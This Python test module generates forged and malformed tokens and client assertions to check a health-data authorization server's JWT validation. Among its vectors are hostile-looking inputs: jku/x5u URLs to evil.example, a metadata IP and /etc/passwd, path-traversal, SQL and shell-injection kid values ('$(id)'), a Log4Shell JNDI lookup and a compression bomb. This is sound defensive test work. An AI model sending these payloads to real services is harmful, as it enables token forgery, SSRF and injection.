"""Forged and misused access tokens and client assertions, each with a name, made alike each time.

A vector stands beside its control, a token that differs in the fault alone and is taken: so each is refused for
its own reason. What names a fault of the header or of the claims is signed with the very key that counts, unless
the signature is the fault. Threats D1 to D3, D11 to D13.
"""

import base64
import hashlib
import hmac
import json
import sys
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from random import Random
from typing import Any, NamedTuple

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

SEED = 2021
JSON = dict[str, Any]

# Orders of the curves: what s of a signature is counted by. SEC 2, 2.4.2 and 2.5.1.
ORDERS = {
    "secp256r1": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    "secp384r1": 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
}


class Vector(NamedTuple):
    """name: what is wrong with it. shown: what is sent."""

    name: str
    shown: str


@dataclass(frozen=True)
class Good:
    """What stands: a header and claims that are taken where the key signs them. size: octets of r and of s."""

    header: JSON
    claims: JSON
    key: ec.EllipticCurvePrivateKey
    digest: hashes.HashAlgorithm
    again: Callable[[], JSON] | None = None

    @property
    def size(self) -> int:
        return self.key.curve.key_size // 8

    @property
    def order(self) -> int:
        return ORDERS[self.key.curve.name]

    def fresh(self) -> JSON:
        """The claims, of a token of their own where one is good once."""
        return self.again() if self.again is not None else dict(self.claims)

    def token(
        self,
        header: JSON | bytes | None = None,
        claims: JSON | bytes | None = None,
        *,
        sign: Callable[[bytes], bytes] | None = None,
    ) -> str:
        header = self.header if header is None else header
        text = f"{b64(written(header))}.{b64(written(self.fresh() if claims is None else claims))}"
        return f"{text}.{b64((sign or self.sign)(text.encode()))}"

    def numbers(self, text: bytes) -> tuple[int, int]:
        r, s = decode_dss_signature(self.key.sign(text, ec.ECDSA(self.digest)))
        return r, min(s, self.order - s)

    def raw(self, r: int, s: int) -> bytes:
        return r.to_bytes(self.size, "big") + s.to_bytes(self.size, "big")

    def sign(self, text: bytes) -> bytes:
        return self.raw(*self.numbers(text))


def b64(octets: bytes) -> str:
    return base64.urlsafe_b64encode(octets).decode().rstrip("=")


def written(part: JSON | bytes) -> bytes:
    return part if isinstance(part, bytes) else json.dumps(part).encode()


def without(part: JSON, name: str) -> JSON:
    return {other: value for other, value in part.items() if other != name}


def once(made: Iterable[Vector]) -> Iterator[Vector]:
    """Without those that show what one before has shown; a name that was met before is told apart."""
    names: Counter[str] = Counter()
    shown: set[str] = set()
    for vector in made:
        if vector.shown in shown:
            continue
        shown.add(vector.shown)
        names[vector.name] += 1
        again = f" ({names[vector.name]})" if names[vector.name] > 1 else ""
        yield vector._replace(name=vector.name + again)


def everything(good: Good) -> Iterator[Vector]:
    """Every vector that is made of a good token, whatever it is for."""
    for made in (algorithms, macs, signatures, keys_of_others, flips, pieces, headers, kids, json_tricks):
        for vector in made(good):
            yield vector._replace(name=f"{made.__name__}: {vector.name}")


def algorithms(good: Good) -> Iterator[Vector]:
    nones = [
        "".join(letter.upper() if bits >> at & 1 else letter for at, letter in enumerate("none"))
        for bits in range(16)
    ]
    odd: list[Any] = [
        *nones,
        "none ",
        " none",
        "none\0",
        "nοne",
        "ｎone",
        "",
        None,
        0,
        True,
        [],
        ["none"],
        {},
        [good.header["alg"]],
        "null",
        "plain",
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "ES256K",
        "ES512",
        "EdDSA",
        "Ed25519",
        "dir",
        "RSA-OAEP",
        "ECDH-ES",
        "A256GCMKW",
        "PBES2-HS256+A128KW",
        good.header["alg"].lower(),
        good.header["alg"] + " ",
        good.header["alg"] + "\0",
        "ES",
        "es256",
        "Es384",
        "ES384" if good.header["alg"] == "ES256" else "ES256",
    ]
    for alg in odd:
        header = good.header | {"alg": alg}
        yield Vector(f"{alg!r}, signed", good.token(header))
        yield Vector(f"{alg!r}, no signature", good.token(header, sign=lambda _: b""))
        yield Vector(
            f"{alg!r}, zeros for a signature", good.token(header, sign=lambda _: bytes(2 * good.size))
        )
    yield Vector("left out, signed", good.token(without(good.header, "alg")))
    yield Vector("left out, no signature", good.token(without(good.header, "alg"), sign=lambda _: b""))


def macs(good: Good) -> Iterator[Vector]:
    """Signed by HMAC with what everybody knows: the public key, as a library may have it in its hands."""
    public = good.key.public_key()
    numbers = public.public_numbers()
    x, y = (value.to_bytes(good.size, "big") for value in (numbers.x, numbers.y))
    jwk = {"kty": "EC", "crv": f"P-{good.size * 8}", "x": b64(x), "y": b64(y)}
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    pem = public.public_bytes(serialization.Encoding.PEM, spki)
    point = serialization.Encoding.X962
    known = {
        "PEM": pem,
        "PEM without its last line end": pem.rstrip(b"\n"),
        "PEM with line ends of Windows": pem.replace(b"\n", b"\r\n"),
        "body of the PEM": b"".join(pem.splitlines()[1:-1]),
        "DER": public.public_bytes(serialization.Encoding.DER, spki),
        "point": public.public_bytes(point, serialization.PublicFormat.UncompressedPoint),
        "point, compressed": public.public_bytes(point, serialization.PublicFormat.CompressedPoint),
        "x": x,
        "x and y": x + y,
        "x in base64": jwk["x"].encode(),
        "JWK": json.dumps(jwk).encode(),
        "JWK without spaces": json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode(),
        "JWK with its kid": json.dumps(jwk | {"kid": good.header.get("kid")}).encode(),
        "thumbprint": hashlib.sha256(
            json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()
        ).digest(),
        "kid": str(good.header.get("kid")).encode(),
        "nothing": b"",
        "one zero": b"\0",
    }
    for name, secret in known.items():
        for alg, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):

            def mac(text: bytes, secret: bytes = secret, digest: str = digest) -> bytes:
                return hmac.digest(secret, text, digest)

            yield Vector(f"{alg} with the {name}", good.token(good.header | {"alg": alg}, sign=mac))
            yield Vector(f"{alg} with the {name}, under our own alg", good.token(sign=mac))


def signatures(good: Good) -> Iterator[Vector]:
    order, size = good.order, good.size
    text = good.token().rpartition(".")[0]
    r, s = good.numbers(text.encode())
    pairs = {
        "0, 0": (0, 0),
        "0, 1": (0, 1),
        "1, 0": (1, 0),
        "1, 1": (1, 1),
        "r, 0": (r, 0),
        "0, s": (0, s),
        "order, order": (order, order),
        "order, s": (order, s),
        "r, order": (r, order),
        "s, r": (s, r),
        "r, r": (r, r),
        "s, s": (s, s),
        "order, 0": (order, 0),
        "0, order": (0, order),
        "r, 1": (r, 1),
        "order less 1, s": (order - 1, s),
        "r, s less 1": (r, s - 1),
        "r, s more 1": (r, s + 1),
        "order less r, s": (order - r, s),
        "largest": (2 ** (size * 8) - 1, 2 ** (size * 8) - 1),
    }
    for name, pair in pairs.items():
        yield Vector(f"({name})", f"{text}.{b64(good.raw(*pair))}")
    if good.again is None:
        # Of an assertion its twin is the same assertion: it is taken once, whichever comes first.
        yield Vector("(r, order less s), which checks as well", f"{text}.{b64(good.raw(r, order - s))}")
    right = good.raw(r, s)
    forms = {
        "DER": encode_dss_signature(r, s),
        "a zero before": b"\0" + right,
        "a zero after": right + b"\0",
        "twice": right + right,
        "the other way round": right[::-1],
        "of zeros, half as long": bytes(size),
        "of zeros, longer": bytes(2 * size + 1),
        "of 0xff": b"\xff" * 2 * size,
        "hex": right.hex().encode(),
        "base64 twice": b64(right).encode(),
    }
    for name, octets in forms.items():
        yield Vector(f"as {name}", f"{text}.{b64(octets)}")
    for missing in (1, 2, size - 1, size, size + 1, 2 * size - 1):
        yield Vector(f"less {missing} octets", f"{text}.{b64(right[:-missing])}")
        yield Vector(f"less its first {missing} octets", f"{text}.{b64(right[missing:])}")
    spelt = b64(right)
    plain = base64.b64encode(right).decode()
    spellings = {
        "padded": spelt + "=" * (-len(spelt) % 4 or 4),
        "padded too much": spelt + "====",
        "padded before": "=" + spelt,
        "with a space in it": f"{spelt[:9]} {spelt[9:]}",
        "with a line end in it": f"{spelt[:9]}\n{spelt[9:]}",
        "with a line end after": spelt + "\n",
        "with a tilde after": spelt + "~",
        "with a dot after": spelt + ".",
        "with an exclamation mark in it": f"{spelt[:9]}!{spelt[9:]}",
        "with a plus after": spelt + "+",
        "in upper case": spelt.upper(),
        "percent-encoded": "%41" + spelt[1:],
    }
    if plain.rstrip("=") != spelt:
        spellings["in the other alphabet"] = plain.rstrip("=")
    if len(spelt) % 4:
        # Bits of the last letter that no octet is made of.
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        last = alphabet.index(spelt[-1])
        spellings |= {
            f"with {bits} in the bits that count for nothing": spelt[:-1] + alphabet[last | bits]
            for bits in (1, 2, 3)
        }
    for name, spelling in spellings.items():
        yield Vector(f"spelt {name}", f"{text}.{spelling}")
    other = good.token(claims=good.fresh() | {"iat": good.fresh().get("iat", 0) + 1})
    yield Vector("of another token", f"{text}.{other.rpartition('.')[2]}")
    yield Vector("of the header alone", f"{text}.{b64(good.sign(text.partition('.')[0].encode()))}")
    yield Vector("of the claims alone", f"{text}.{b64(good.sign(text.partition('.')[2].encode()))}")
    yield Vector("of the text and a dot", f"{text}.{b64(good.sign(text.encode() + b'.'))}")
    yield Vector(
        "of the text without base64",
        f"{text}.{b64(good.sign(written(good.header) + b'.' + written(good.fresh())))}",
    )
    for digest in (hashes.SHA1(), hashes.SHA224(), hashes.SHA256(), hashes.SHA384(), hashes.SHA512()):
        if digest.name != good.digest.name:
            signed = replace(good, digest=digest).sign(text.encode())
            yield Vector(f"over {digest.name}", f"{text}.{b64(signed)}")


def keys_of_others(good: Good) -> Iterator[Vector]:
    """Everything right but who signed it."""
    ecs = {
        "P-256": ec.SECP256R1(),
        "P-384": ec.SECP384R1(),
        "P-521": ec.SECP521R1(),
        "secp256k1": ec.SECP256K1(),
    }
    for curve_name, curve in ecs.items():
        for digest in (hashes.SHA256(), hashes.SHA384(), hashes.SHA512()):
            key = ec.generate_private_key(curve)
            size = (key.curve.key_size + 7) // 8

            def sign(text: bytes, key: Any = key, digest: Any = digest, size: int = size) -> bytes:
                r, s = decode_dss_signature(key.sign(text, ec.ECDSA(digest)))
                return r.to_bytes(size, "big") + s.to_bytes(size, "big")

            of = f"{curve_name} over {digest.name}"
            numbers = key.public_key().public_numbers()
            x, y = (b64(value.to_bytes(size, "big")) for value in (numbers.x, numbers.y))
            brought = {"kty": "EC", "crv": curve_name, "x": x, "y": y}
            yield Vector(of, good.token(sign=sign))
            yield Vector(f"{of}, brought as jwk", good.token(good.header | {"jwk": brought}, sign=sign))
            yield Vector(
                f"{of}, brought as jwk, no kid",
                good.token(without(good.header, "kid") | {"jwk": brought}, sign=sign),
            )
    small = rsa.generate_private_key(65537, 2048)
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
    for alg, scheme, digest in (
        ("RS256", padding.PKCS1v15(), hashes.SHA256()),
        ("RS384", padding.PKCS1v15(), hashes.SHA384()),
        ("RS512", padding.PKCS1v15(), hashes.SHA512()),
        ("PS256", pss, hashes.SHA256()),
    ):

        def by_rsa(text: bytes, scheme: Any = scheme, digest: Any = digest) -> bytes:
            return small.sign(text, scheme, digest)

        yield Vector(f"RSA, {alg}", good.token(good.header | {"alg": alg}, sign=by_rsa))
        yield Vector(f"RSA, {alg}, under our own alg", good.token(sign=by_rsa))
    edwards = ed25519.Ed25519PrivateKey.generate()
    yield Vector("Ed25519", good.token(good.header | {"alg": "EdDSA"}, sign=edwards.sign))
    yield Vector("Ed25519 under our own alg", good.token(sign=edwards.sign))


def flips(good: Good) -> Iterator[Vector]:
    """One bit of what is signed, or of the signature, is another."""
    random = Random(SEED)
    parts = good.token().split(".")
    for number, name in enumerate(("header", "claims", "signature")):
        octets = base64.urlsafe_b64decode(parts[number] + "==")
        count = len(octets)
        for at in sorted(random.sample(range(count), min(count, 64))):
            bit = random.randrange(8)
            changed = octets[:at] + bytes([octets[at] ^ 1 << bit]) + octets[at + 1 :]
            other = [*parts[:number], b64(changed), *parts[number + 1 :]]
            yield Vector(f"{name}, octet {at}, bit {bit}", ".".join(other))


def pieces(good: Good) -> Iterator[Vector]:
    token = good.token()
    header, claims, signature = token.split(".")
    for share in range(1, 40):
        yield Vector(f"cut after {share} of 40 parts", token[: len(token) * share // 40])
    for number in range(1, 8):
        yield Vector(f"less its first {number}", token[number:])
    made = {
        "nothing": "",
        "a dot": ".",
        "two dots": "..",
        "three dots": "...",
        "header": header,
        "header, dot": f"{header}.",
        "header and claims": f"{header}.{claims}",
        "without a signature": f"{header}.{claims}.",
        "without claims": f"{header}..{signature}",
        "without a header": f".{claims}.{signature}",
        "claims, header": f"{claims}.{header}.{signature}",
        "signature first": f"{signature}.{header}.{claims}",
        "header twice": f"{header}.{header}.{claims}.{signature}",
        "four parts": f"{token}.{signature}",
        "five parts, as if encrypted": f"{header}.{claims}.{signature}.{claims}.{signature}",
        "five parts, most empty": f"{header}....{signature}",
        "twice": token + token,
        "twice with a dot": f"{token}.{token}",
        "a dot before": f".{token}",
        "two dots inside": f"{header}..{claims}.{signature}",
        "dots of another script": token.replace(".", "。"),
        "full-width dots": token.replace(".", "．"),
        "commas": token.replace(".", ","),
        "percent-encoded dots": token.replace(".", "%2E"),
        "backwards": token[::-1],
        "upper case": token.upper(),
        "lower case": token.lower(),
        "quoted": f'"{token}"',
        "a NUL after": token + "\0",
        "a NUL before": "\0" + token,
        "a NUL in the middle": f"{header}.{claims}\0.{signature}",
        "a space before": f" {token}",
        "a space after": f"{token} ",
        "a tab after": f"{token}\t",
        "a line end after": f"{token}\n",
        "a line end before": f"\n{token}",
        "CR LF after": f"{token}\r\n",
        "a space in the claims": f"{header}.{claims[:5]} {claims[5:]}.{signature}",
        "a space in the header": f"{header[:5]} {header[5:]}.{claims}.{signature}",
        "a line end in the header": f"{header[:5]}\n{header[5:]}.{claims}.{signature}",
        "no-break space after": f"{token}\u00a0",
        "zero-width space inside": f"{header}\u200b.{claims}.{signature}",
        "byte order mark before": f"\ufeff{token}",
        "right-to-left mark": f"\u202e{token}",
        "a Cyrillic letter": token.replace("e", "е", 1),
        "full-width letters": "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in token[:20])
        + token[20:],
        "header padded": f"{header}{'=' * (-len(header) % 4 or 4)}.{claims}.{signature}",
        "claims padded": f"{header}.{claims}{'=' * (-len(claims) % 4 or 4)}.{signature}",
        "flattened JSON": json.dumps({"protected": header, "payload": claims, "signature": signature}),
        "general JSON": json.dumps(
            {"payload": claims, "signatures": [{"protected": header, "signature": signature}]}
        ),
        "flattened JSON with a header of its own": json.dumps(
            {"protected": header, "header": {"alg": "none"}, "payload": claims, "signature": signature}
        ),
        "the claims as they are": json.dumps(good.claims),
        "Bearer before": f"Bearer {token}",
        "two tokens": f"{token}, {token}",
        "as a name": f"access_token={token}",
        "base64 of it": b64(token.encode()),
    }
    for name, shown in made.items():
        yield Vector(name, shown)
    padded = good.fresh() | {"padding": ""}
    for length in (4_097, 8_192, 20_000, 300_000):
        yield Vector(f"{length} characters long", _of_length(good, padded, length))
    yield Vector("a signature of 100,000", f"{header}.{claims}.{'A' * 100_000}")
    yield Vector("a header of 100,000", f"{'A' * 100_000}.{claims}.{signature}")
    yield Vector("10,000 dots", "." * 10_000)


def _of_length(good: Good, claims: JSON, length: int) -> str:
    fill = length * 3 // 4
    while True:
        token = good.token(claims=claims | {"padding": "x" * fill})
        if len(token) <= length:
            return token + "A" * (length - len(token)) if length > 4_096 else token
        fill -= max(1, (len(token) - length) * 3 // 4)


def headers(good: Good) -> Iterator[Vector]:
    """A name in the header that we never write, signed with the key that counts."""
    numbers = good.key.public_key().public_numbers()
    own = {
        "kty": "EC",
        "crv": f"P-{good.size * 8}",
        "x": b64(numbers.x.to_bytes(good.size, "big")),
        "y": b64(numbers.y.to_bytes(good.size, "big")),
    }
    addresses = [
        "https://evil.example/jwks",
        "http://169.254.169.254/latest/meta-data",
        "http://[::1]/",
        "http://127.0.0.1:1/",
        "file:///etc/passwd",
        "http://127.0.0.1:8000/jwks",
        "//evil.example",
        "http://localhost.evil.example/",
        "gopher://x/",
        "data:application/json,{}",
    ]
    more: list[tuple[str, Any]] = [("jwk", own), ("jwk", {}), ("jwk", None), ("jwk", {"keys": [own]})]
    more += [(name, address) for name in ("jku", "x5u") for address in addresses]
    more += [("x5c", value) for value in ([], ["MIIB"], "MIIB", ["A" * 1_000])]
    more += [
        ("x5t", "x"),
        ("x5t#S256", "x"),
        ("cty", "JWT"),
        ("cty", "at+jwt"),
        ("enc", "A256GCM"),
        ("b64", False),
    ]
    more += [
        ("b64", True),
        ("p2c", 10**9),
        ("p2s", "x"),
        ("epk", own),
        ("apu", "x"),
        ("url", "x"),
        ("nonce", "x"),
    ]
    more += [("crit", value) for value in ([], ["exp"], ["b64"], ["x"], "exp", None, ["alg"], ["b64", "b64"])]
    more += [
        ("zip", "DEF"),
        ("zip", "none"),
        ("iss", "x"),
        ("Alg", "none"),
        ("ALG", "none"),
        ("alg ", "none"),
        ("", "x"),
    ]
    for name, value in more:
        yield Vector(f"{name} {json.dumps(value)[:60]}", good.token(good.header | {name: value}))
    crit = good.header | {"b64": False, "crit": ["b64"]}
    text = f"{b64(written(crit))}.".encode() + written(good.fresh())
    yield Vector(
        "b64 false, and so signed",
        f"{b64(written(crit))}.{b64(written(good.fresh()))}.{b64(good.sign(text))}",
    )
    for size in (10_000, 100_000_000):
        bomb = zlib.compress(bytes(min(size, 1_000_000)), 9)[2:-4] * (size // 1_000_000 or 1)
        packed = good.token(good.header | {"zip": "DEF"}, bomb[:2_000])
        yield Vector(f"zip, what would be {size} zeros", packed)
    packed = zlib.compress(written(good.fresh()))[2:-4]
    yield Vector("zip, the right claims packed", good.token(good.header | {"zip": "DEF"}, packed))
    types: list[Any] = [
        "jwt ",
        "at+JWT",
        "AT+JWT",
        "application/at+jwt",
        "at+jwt ",
        "at+jwt\0",
        "id+jwt",
        "dpop+jwt",
        "logout+jwt",
        "JWS",
        "JOSE+JSON",
        "",
        None,
        5,
        True,
        [],
        ["at+jwt"],
        {"at": "jwt"},
        "secevent+jwt",
        "at%2Bjwt",
        "client-authentication",
    ]
    for type_ in types:
        yield Vector(f"typ {type_!r}", good.token(good.header | {"typ": type_}))


def kids(good: Good) -> Iterator[Vector]:
    kid = good.header["kid"]
    others: list[Any] = [
        "",
        None,
        0,
        5,
        True,
        [],
        [kid],
        {},
        {"kid": kid},
        "nobody",
        kid + " ",
        " " + kid,
        kid + "\0",
        kid + "\n",
        kid.upper() + "X",
        kid * 2,
        kid[:-1],
        "../cookie-secret",
        "../../../../../dev/null",
        "/dev/null",
        "..\\..\\cookie-secret",
        "%2e%2e%2fx",
        "signing-keys.json",
        "file:///dev/null",
        "https://evil.example/key",
        "' OR 1=1 --",
        "' UNION SELECT 'x' --",
        '"; DROP TABLE token; --',
        "1; SELECT pg_sleep(5)",
        "|id",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "*",
        "%",
        "_",
        "\ud800",
        "ключ",
        "x" * 2_000,
        "\r\nX: y",
        "__proto__",
        "constructor",
        "null",
        "undefined",
        "NaN",
    ]
    for other in others:
        yield Vector(repr(other)[:60], good.token(good.header | {"kid": other}))
    yield Vector("left out", good.token(without(good.header, "kid")))


def json_tricks(good: Good) -> Iterator[Vector]:
    """What two readers of JSON would not read alike, or what a reader chokes on; all of it signed."""
    for part, names in (("header", list(good.header)), ("claims", list(good.claims))):
        body = good.header if part == "header" else good.fresh()
        for name in names:
            value = json.dumps(body[name])
            rest = written(without(body, name))[1:-1].decode()
            escaped = "".join(f"\\u{ord(letter):04x}" for letter in name)
            for other in ('"other"', value, "null"):
                for spelling in (name, escaped):
                    first = f'{{"{spelling}": {other}, "{name}": {value}, {rest}}}'
                    last = f'{{"{name}": {value}, {rest}, "{spelling}": {other}}}'
                    yield Vector(f"{part}: {spelling} twice, {other} first", _with(good, part, first))
                    yield Vector(f"{part}: {spelling} twice, {other} last", _with(good, part, last))
    for part in ("header", "claims"):
        body = good.header if part == "header" else good.fresh()
        text = json.dumps(body)
        tricks = {
            "NaN": text[:-1] + ', "x": NaN}',
            "Infinity": text[:-1] + ', "x": -Infinity}',
            "a comma more": text[:-1] + ",}",
            "a comment": text[:-1] + "/* x */}",
            "single quotes": text.replace('"', "'"),
            "a list": f"[{text}]",
            "a text": json.dumps(text),
            "null": "null",
            "a number": "5",
            "nothing": "",
            "true": "true",
            "an empty list": "[]",
            "two objects": text * 2,
            "something after": text + "x",
            "not closed": text[:-1],
            "names without quotes": text.replace('"', ""),
            "50 deep and more": text[:-1] + ', "x": ' + "[" * 51 + "]" * 51 + "}",
            "990 deep": text[:-1] + ', "x": ' + "[" * 990 + "]" * 990 + "}",
            "objects, 300 deep": text[:-1] + ', "x": ' + '{"x":' * 300 + "1" + "}" * 301,
            "a number of 2,000 digits": text[:-1] + ', "x": ' + "9" * 2_000 + "}",
            "1e999": text[:-1] + ', "x": 1e999}',
            "half a pair": text[:-1] + ', "x": "\\ud800"}',
        }
        for name, trick in tricks.items():
            yield Vector(f"{part}: {name}", _with(good, part, trick))
        for encoding in ("utf-16", "utf-16-le", "utf-32", "utf-8-sig"):
            yield Vector(f"{part}: in {encoding}", _with(good, part, text.encode(encoding)))
        yield Vector(f"{part}: not UTF-8", _with(good, part, text.encode()[:-1] + b', "x": "\xff\xfe"}'))
        yield Vector(f"{part}: a NUL in it", _with(good, part, text.encode() + b"\0"))


def _with(good: Good, part: str, text: str | bytes) -> str:
    octets = text.encode() if isinstance(text, str) else text
    return good.token(octets) if part == "header" else good.token(claims=octets)


ODD: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    1.5,
    "",
    " ",
    "x",
    [],
    {},
    [None],
    ["x"],
    {"x": "x"},
    10**30,
    "0",
    "\0",
    "null",
    1e300,
]


def claims_of_access(good: Good, *, now: int) -> Iterator[Vector]:
    """What an access token says, in other words than ours, signed with our key. now: seconds since 1970."""
    for name in ("iss", "aud", "sub", "client_id", "scope", "jti", "epoch", "iat", "exp"):
        right = good.claims[name]
        yield Vector(f"{name} left out", good.token(claims=without(good.claims, name)))
        yield Vector(
            f"{name} under a name in capitals",
            good.token(claims=without(good.claims, name) | {name.upper(): right}),
        )
        others = [
            *ODD,
            [right],
            {"value": right},
            str(right) + " ",
            " " + str(right),
            str(right) + "\0",
            str(right) + "x",
            str(right).upper() + "X",
        ]
        if isinstance(right, int):
            others += [str(right), float(right), right / 3]
        for other in others:
            # 0 and the like may be in date, or be an issue of long ago, and are told below.
            if name == "scope" and str(other).strip() == right:
                # The same words, with a space more between them.
                continue
            dated = type(other) is int and (name, other <= now) in (("iat", True), ("exp", False))
            if not dated:
                yield Vector(f"{name} {other!r}"[:90], good.token(claims=good.claims | {name: other}))
    base = good.claims["iss"]
    for iss in (
        f"{base}/",
        base.replace("http", "https"),
        base.replace("127.0.0.1", "localhost"),
        f"{base}/fhir",
        f"{base}?x",
        f"{base}#",
        f"{base}/.",
        base.upper(),
        "https://evil.example",
        base.replace("8000", "8001"),
        f"{base}@evil.example",
        base.replace("127.0.0.1", "127.0.0.1."),
    ):
        yield Vector(f"iss {iss}", good.token(claims=good.claims | {"iss": iss}))
    fhir = good.claims["aud"]
    for aud in (
        f"{fhir}/",
        base,
        fhir.replace("http", "https"),
        [fhir],
        [fhir, "https://evil.example"],
        ["https://evil.example", fhir],
        f"{fhir} https://evil.example",
        "https://evil.example/fhir",
        fhir.upper(),
        f"{fhir}/Patient",
        f"{base}/token",
        good.claims["client_id"],
        "*",
        fhir[:-1],
        f"{fhir}x",
    ):
        yield Vector(f"aud {aud}", good.token(claims=good.claims | {"aud": aud}))
    edges = {
        "exp now": {"exp": now},
        "exp a second ago": {"exp": now - 1},
        "exp a minute ago": {"exp": now - 60},
        "exp long ago": {"exp": 1},
        "iat in 61 seconds": {"iat": now + 61},
        "iat in an hour": {"iat": now + 3_600},
        "iat in 30 years": {"iat": now + 10**9},
        "exp before iat": {"iat": now + 50, "exp": now - 50},
        "nbf in 61 seconds": {"nbf": now + 61},
        "nbf of now, which we never write": {"nbf": now},
        "nbf nothing": {"nbf": None},
        "nbf a text": {"nbf": "x"},
        "exp in milliseconds ago": {"exp": -now * 1_000},
    }
    for name, changes in edges.items():
        yield Vector(name, good.token(claims=good.claims | changes))
    for child in (0, True, [], ["poppy"], {"id": "poppy"}, 1.5):
        yield Vector(f"patient {child!r}", good.token(claims=good.claims | {"patient": child}))
    for scope in SCOPES:
        yield Vector(f"scope {scope[:50]!r}", good.token(claims=good.claims | {"scope": scope}))
    for epoch in (good.claims["epoch"] + 1, good.claims["epoch"] - 1, 2**31, -(2**31)):
        yield Vector(f"epoch {epoch}", good.token(claims=good.claims | {"epoch": epoch}))
    for jti in (
        "00000000-0000-0000-0000-000000000000",
        good.claims["jti"].upper(),
        good.claims["jti"].replace("-", ""),
        "' OR 1=1 --",
        "%",
        "x" * 1_000,
    ):
        yield Vector(f"jti {jti[:50]}", good.token(claims=good.claims | {"jti": jti}))


SCOPES = [
    "user/Patient.rs system/Patient.rs",
    "user/Patient.rs patient/Patient.rs",
    "patient/*.rs system/*.cruds",
    "user/Patient.sr",
    "user/Patient.",
    "user/.rs",
    "user/*",
    "*",
    "*/*.*",
    "admin/*.*",
    "user/Patient.rsx",
    "user/patient.rs",
    "USER/Patient.rs",
    "user/Patient.rs\u00a0user/Observation.rs",
    "user/Patient.rs\tuser/Observation.rs",
    "user/Patient.rs\nuser/Observation.rs",
    "user/Patient.rs\u3000system/*.rs",
    "user/Pаtient.rs",
    "user/Patient.rs,user/Observation.rs",
    "user/Patient.rs\0",
    "user/Patient.rs;system/*.cruds",
    "user/Patient.rs?",
    "user/Patient.rs?x=y",
    "user/Patient.rs?_tag=",
    "user/Patient.rs?_tag=x|y",
    "user/*.rs?category=urn:x|y",
    "profile email",
    " ".join(["user/Patient.rs"] * 10_000),
    " ".join(f"user/T{number}.rs" for number in range(10_000)),
]


def claims_of_assertion(good: Good, *, now: int) -> Iterator[Vector]:
    """What a client assertion says, in words that are not taken, signed with the system's own key."""
    right = good.claims
    for name in ("iss", "sub", "aud", "exp", "jti"):
        yield Vector(f"{name} left out", good.token(claims=without(good.fresh(), name)))
        yield Vector(
            f"{name} under a name in capitals",
            good.token(claims=without(good.fresh(), name) | {name.upper(): right[name]}),
        )
        for other in ODD:
            # Any text names an assertion.
            if not (name == "jti" and isinstance(other, str) and other):
                yield Vector(f"{name} {other!r}"[:90], good.token(claims=good.fresh() | {name: other}))
        for other in (
            [[right[name]]],
            {"value": right[name]},
            str(right[name]) + " ",
            str(right[name]) + "\0",
        ):
            if name not in ("jti",) or not isinstance(other, str):
                yield Vector(f"{name} {other!r}"[:90], good.token(claims=good.fresh() | {name: other}))
    token = right["aud"]
    base = token.removesuffix("/token")
    for aud in (
        base,
        f"{base}/",
        f"{base}/fhir",
        f"{token}/",
        f"{base}/introspect",
        f"{base}/authorize",
        [base],
        [token, "https://evil.example/token"],
        ["https://evil.example/token"],
        token.replace("http", "https"),
        token.upper(),
        f"{token}?x",
        f"{token}#x",
        "https://evil.example/token",
        token[:-1],
        [],
        [[token]],
        token.replace("127.0.0.1", "localhost"),
        f"{token} https://evil.example/token",
    ):
        yield Vector(f"aud {aud}", good.token(claims=good.fresh() | {"aud": aud}))
    edges = {
        "exp now": {"exp": now},
        "exp a second ago": {"exp": now - 1},
        "exp an hour ago": {"exp": now - 3_600},
        "exp in 301 seconds": {"exp": now + 301},
        "exp in an hour": {"exp": now + 3_600},
        "exp in a hundred years": {"exp": now + 3 * 10**9},
        "exp a text": {"exp": str(now + 100)},
        "exp not whole": {"exp": now + 100.5},
        "iat in 61 seconds": {"iat": now + 61},
        "nbf in 61 seconds": {"nbf": now + 61},
        "iat a text": {"iat": str(now)},
        "nbf a text": {"nbf": str(now)},
        "iat nothing": {"iat": None},
        "nbf nothing": {"nbf": None},
        "iat true": {"iat": True},
        "nbf not whole": {"nbf": now - 0.5},
        "jti of 201": {"jti": "x" * 201},
        "jti of 2,000": {"jti": "x" * 2_000},
        "jti a number": {"jti": 5},
        "jti a list": {"jti": ["x"]},
    }
    for name, changes in edges.items():
        yield Vector(name, good.token(claims=good.fresh() | changes))


class Outbound(Exception):
    """Something asked for a connection."""


@contextmanager
def no_connections() -> Iterator[list[str]]:
    """Whatever asks for a connection, or for the address of a name, in Python is refused it, and told of here.

    The test database is met by libpq, which does not ask Python.
    """
    if not _hooked:
        sys.addaudithook(_asked)
        _hooked.append(True)
    _watching.append(told := [])
    try:
        yield told
    finally:
        _watching.remove(told)


_hooked: list[bool] = []
_watching: list[list[str]] = []
_CONNECTING = (
    "socket.connect",
    "socket.getaddrinfo",
    "socket.gethostbyname",
    "socket.sendto",
    "socket.sendmsg",
    "urllib.Request",
    "subprocess.Popen",
    "os.system",
)


def _asked(event: str, _arguments: tuple[Any, ...]) -> None:
    if _watching and event in _CONNECTING:
        for told in _watching:
            told.append(event)
        raise Outbound(event)
